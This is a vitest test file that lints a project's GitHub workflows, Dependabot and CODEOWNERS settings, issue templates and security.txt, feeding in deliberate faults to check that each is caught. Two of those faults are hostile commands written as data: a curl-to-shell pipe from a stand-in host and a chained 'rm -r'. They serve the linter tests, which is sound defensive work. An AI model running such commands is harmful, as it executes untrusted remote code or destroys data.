import { expect, test } from 'vitest';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { dateProblems, textProblems } from '../supply-chain/security-text';
import { filesBelow } from '../lint/project';
import { nodeVersions } from '../../data/node-versions';
import { security } from '../../data/security';
import { teamFileFindings } from './team-files';
import { workflowFindings } from './workflow-rules';
import { root } from '../../../tests/support/built-site';

const read = (file: string): string => readFileSync(path.join(root, file), 'utf8');
const { scripts } = JSON.parse(read('package.json')) as { scripts: object };
const commands = new Set([...Object.keys(scripts), ...filesBelow(root, 'src/tooling/ci')]);
const team = filesBelow(root, '.github').map((file) => ({ file, source: read(file) }));

const SITE = '.github/workflows/site.yml';
const COMMENT = '.github/workflows/pull-request-comment.yml';

test('every action is pinned, with its version', () => {
  const used = team.flatMap(({ source }) => [...source.matchAll(/uses: (?!\.\/)(.*)/g)].map(([, action = '']) => action));
  expect(used.length).toBeGreaterThan(20);
  expect(used.filter((action) => !/^[\w-]+\/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(action))).toEqual([]);
});

test('the workflows and other GitHub files follow the rules', async () => {
  const workflows = team.filter(({ file }) => file.includes('/workflows/'));
  expect(workflows.length).toBeGreaterThanOrEqual(4);
  for (const { file, source } of workflows) expect(await workflowFindings(file, source, commands), file).toEqual([]);
  expect(teamFileFindings(team, root)).toEqual([]);
});

test('workflows use the newest supported Node, and package.json the oldest', () => {
  const inWorkflows = team.flatMap(({ source }) => [...source.matchAll(/node-version.*/g)].map(([setting]) => setting));
  expect(inWorkflows.length).toBeGreaterThan(4);
  expect(new Set(inWorkflows)).toEqual(new Set(['node-version-file: .nvmrc']));
  expect(read('.nvmrc').trim()).toBe(nodeVersions.lines.at(-1));
  const { engines } = JSON.parse(read('package.json')) as { engines: { node: string } };
  expect(`${engines.node}.0`).toBe(`>=${nodeVersions.oldest}`);
  for (const file of ['README.md', 'CONTRIBUTING.md']) expect(read(file)).toContain('Node.js 20.19 or later');
});

type Change = [from: string | RegExp, to: string];

const FAULTS: { name: string; file: string; change: Change; finds: RegExp }[] = [
  { name: 'a machine that is none', file: SITE, change: ['ubuntu-24.04', 'ubuntu-3000'], finds: /runner-label/ },
  { name: 'no time limit', file: SITE, change: [/ {4}timeout-minutes: 15\n/, ''], finds: /timeout check: it may run for hours/ },
  { name: 'a long time limit', file: SITE, change: ['timeout-minutes: 15', 'timeout-minutes: 360'], finds: /timeout check/ },
  {
    name: "a command that isn't a script",
    file: SITE,
    change: ['run: npm run check\n', 'run: curl https://x.example | sh\n'],
    finds: /command .*isn't one of our scripts/,
  },
  {
    name: 'a second command behind',
    file: SITE,
    change: ['run: npm run check\n', 'run: npm run check -- a; rm -r b\n'],
    finds: /command .*isn't one of our scripts/,
  },
  {
    name: 'a script that is missing',
    file: SITE,
    change: ['npm run build', 'npm run bild'],
    finds: /command .*no "npm run bild"/,
  },
  {
    name: 'a file that is missing',
    file: SITE,
    change: ['ci/sbom.ts', 'ci/sbomb.ts'],
    finds: /command .*no src\/tooling\/ci\/sbomb\.ts/,
  },
  {
    name: 'a file outside of the folder',
    file: SITE,
    change: ['src/tooling/ci/sbom.ts', 'src/tooling/ci/../commands/build.ts'],
    finds: /command .*isn't one of our scripts/,
  },
  { name: 'a variable that is none', file: COMMENT, change: ['${{ runner.temp }}', '${{ runner.attic }}'], finds: /expression .*attic/ },
  { name: 'no YAML', file: COMMENT, change: ['permissions: {}', 'permissions: {'], finds: /^syntax / },
];

for (const { name, file, change, finds } of FAULTS)
  test(`found in a workflow: ${name}`, async () => {
    const before = read(file);
    const source = before.replace(...change);
    expect(source).not.toBe(before);
    const found = await workflowFindings(file, source, commands);
    expect(found.map(({ rule, problem }) => `${rule} ${problem}`).join('\n')).toMatch(finds);
    expect(found.every(({ line, fix }) => line > 0 && fix.length > 5)).toBe(true);
  });

test('a finding names the line of its step', async () => {
  const source = read(SITE).replace('run: npx tsx src/tooling/ci/sbom.ts', 'run: make sbom');
  const [finding] = await workflowFindings(SITE, source, commands);
  expect(source.split('\n')[(finding?.line ?? 0) - 1]).toContain('make sbom');
});

const TEAM_FAULTS: { name: string; file: string; change: Change; finds: string }[] = [
  {
    name: 'updates on the first day',
    file: 'dependabot.yml',
    change: ['default-days: 7', 'default-days: 0'],
    finds: 'npm updates to versions on the day',
  },
  { name: 'actions that stay old', file: 'dependabot.yml', change: ['github-actions', 'docker'], finds: "github-actions isn't updated" },
  { name: 'an owner of nothing', file: 'CODEOWNERS', change: ['/samples/', '/sample/'], finds: 'there is no /sample/' },
  { name: 'an owner of elsewhere', file: 'CODEOWNERS', change: ['@partita/docs', 'me@mail.example'], finds: '* has no team' },
  {
    name: 'a form without labels',
    file: 'ISSUE_TEMPLATE/api.yml',
    change: ['label: Operation', 'title: Operation'],
    finds: 'a field has no label',
  },
  {
    name: 'two fields of one id',
    file: 'ISSUE_TEMPLATE/api.yml',
    change: ['id: request', 'id: operation'],
    finds: 'two fields have the same id',
  },
  {
    name: 'a choice of nothing',
    file: 'ISSUE_TEMPLATE/missing.yml',
    change: [/options: \[.*?\]/, 'options: []'],
    finds: 'a dropdown has no options',
  },
  {
    name: 'an unknown field',
    file: 'ISSUE_TEMPLATE/page.yml',
    change: ['type: input', 'type: slider'],
    finds: 'a field has a type other than',
  },
  {
    name: 'a foreign address',
    file: 'ISSUE_TEMPLATE/config.yml',
    change: ['docs.partita.example', 'docs.partita.dev'],
    finds: "isn't one of our hosts",
  },
];

for (const { name, file, change, finds } of TEAM_FAULTS)
  test(`found in .github: ${name}`, () => {
    const before = read(`.github/${file}`);
    const source = before.replace(...change);
    expect(source).not.toBe(before);
    expect(
      teamFileFindings([{ file: `.github/${file}`, source }], root)
        .map(({ problem }) => problem)
        .join('\n'),
    ).toContain(finds);
  });

const TEXT = read('static/.well-known/security.txt');

test('security.txt says what the project says, and so does SECURITY.md', () => {
  expect(textProblems(TEXT)).toEqual([]);
  expect(read('SECURITY.md')).toContain(security.contact);
  expect(read('docs/technical-support/contact.mdx')).toContain(security.contact);
});

test('found in security.txt', () => {
  const problemsOf = (from: string | RegExp, to: string): string => textProblems(TEXT.replace(from, to)).join('\n');
  expect(problemsOf('security@partita.example', 'me@partita.example')).toContain('"contact: mailto:security@');
  expect(problemsOf(/Expires:.*\n/, '')).toContain('0 lines "Expires:"');
  expect(problemsOf('2027-11-15T00:00:00.000Z', 'November 15')).toContain("isn't a date");
  expect(problemsOf('Policy: https', 'Policy: http')).toContain('neither https: nor mailto:');
  expect(problemsOf('Policy:', 'Polcy:')).toContain('"polcy" isn\'t a field');
});

test('the weekly check requests a new date a month before expiry', () => {
  const on = (day: string): string => dateProblems(TEXT, new Date(day)).join('\n');
  expect(on('2027-10-16T00:00:00Z')).toBe('');
  expect(on('2027-10-17T00:00:00Z')).toContain('It expires in 29 days');
  expect(on('2027-12-01T00:00:00Z')).toContain('It expired 16 days ago');
  expect(on('2026-01-01T00:00:00Z')).toContain('less than a year');
  expect(dateProblems('Contact: mailto:a@partita.example', new Date())).toEqual(['It has no expiry date.']);
});
